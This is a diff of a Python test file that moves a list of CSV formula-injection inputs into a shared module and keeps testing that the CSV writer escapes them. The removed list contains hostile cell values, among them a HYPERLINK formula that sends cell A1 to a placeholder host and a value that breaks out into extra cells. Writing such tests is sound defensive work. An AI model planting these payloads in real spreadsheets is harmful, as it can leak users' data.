@@ -10,27 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from bot.shell.sheets import read, write_csv
-
-HOSTILE = [
-    '=HYPERLINK("http://e/?"&A1,"x")',
-    "+1",
-    "-2+3",
-    "@SUM(1)",
-    "\t=1",
-    "\r=1",
-    "＝1+1",
-    " =1",
-    "\u3000=1",
-    "\ufeff=1",
-    "\u200b=1",
-    'x","=1+1","y',
-    "name\n=1",
-    "＠SUM(1)",
-    "－1",
-    '"=1"',
-    "'=1",
-    "''+1",
-]
+from tests.shell.formulas import BREAK_OUT, FORMULAS
 
 
 def opened(content: bytes) -> list[list[str]]:
@@ -38,12 +18,12 @@ def opened(content: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
 
 
-@pytest.mark.parametrize("cell", [cell for cell in HOSTILE if cell != 'x","=1+1","y'])
+@pytest.mark.parametrize("cell", [cell for cell in FORMULAS if cell != BREAK_OUT])
 def test_i09_a_formula_is_written_as_text(cell: str) -> None:
     assert opened(write_csv(["name"], [[cell]]))[1][0].startswith("'")
 
 
-@pytest.mark.parametrize("cell", HOSTILE)
+@pytest.mark.parametrize("cell", FORMULAS)
 def test_i10_a_cell_stays_one_cell(cell: str) -> None:
     assert [len(line) for line in opened(write_csv(["name", "firm"], [[cell, "x"]]))] == [2, 2]
 
@@ -60,7 +40,7 @@ def test_excel_is_told_that_it_is_utf8() -> None:
 
 
 @given(
-    st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")) | st.sampled_from(HOSTILE), min_size=1, max_size=4)
+    st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")) | st.sampled_from(FORMULAS), min_size=1, max_size=4)
 )
 def test_whatever_is_written_reads_back_as_it_was(cells: list[str]) -> None:
     header = [f"column {number}" for number in range(len(cells) + 1)]
